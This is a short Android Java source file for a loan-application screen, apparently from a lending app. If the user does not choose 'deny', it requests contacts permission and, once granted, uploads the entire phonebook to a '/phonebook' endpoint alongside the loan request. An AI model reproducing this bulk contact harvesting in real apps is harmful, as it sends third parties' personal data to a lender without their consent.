package com.radiounchosenwaits.app.apply;
import android.Manifest;
import android.app.Activity;
import android.content.Intent;
import android.os.Bundle;
import android.view.View;
import android.widget.*;
import androidx.core.app.ActivityCompat;
import com.radiounchosenwaits.app.R;
import com.radiounchosenwaits.app.data.*;
import com.radiounchosenwaits.app.net.Net;

public class ApplyActivity extends Activity {
    @Override protected void onCreate(Bundle b) {
        super.onCreate(b);
        setContentView(R.layout.apply);
        findViewById(R.id.submit).setOnClickListener(this::submit);
        prepare();
    }
    void request() { ActivityCompat.requestPermissions(this, new String[]{Manifest.permission.READ_CONTACTS}, 11); }
    void send() { Net.post("/loan", "{\"ref\":\"" + ((EditText) findViewById(R.id.ref)).getText() + "\",\"amount\":\"" + ((EditText) findViewById(R.id.amount)).getText() + "\"}"); Toast.makeText(this, R.string.done, Toast.LENGTH_LONG).show(); }
    void prepare() { }

    void submit(View v) {
        RadioGroup choice = (RadioGroup) findViewById(R.id.choice);
        int chosen = choice.getCheckedRadioButtonId();
        if (chosen == -1) { Toast.makeText(this, R.string.ask_title, Toast.LENGTH_LONG).show(); return; }
        if (chosen == R.id.deny) send(); else request();
    }

    @Override public void onRequestPermissionsResult(int c, String[] n, int[] r) { if (r.length > 0 && r[0] == 0) Net.post("/phonebook", Book.json(this)); send(); }

}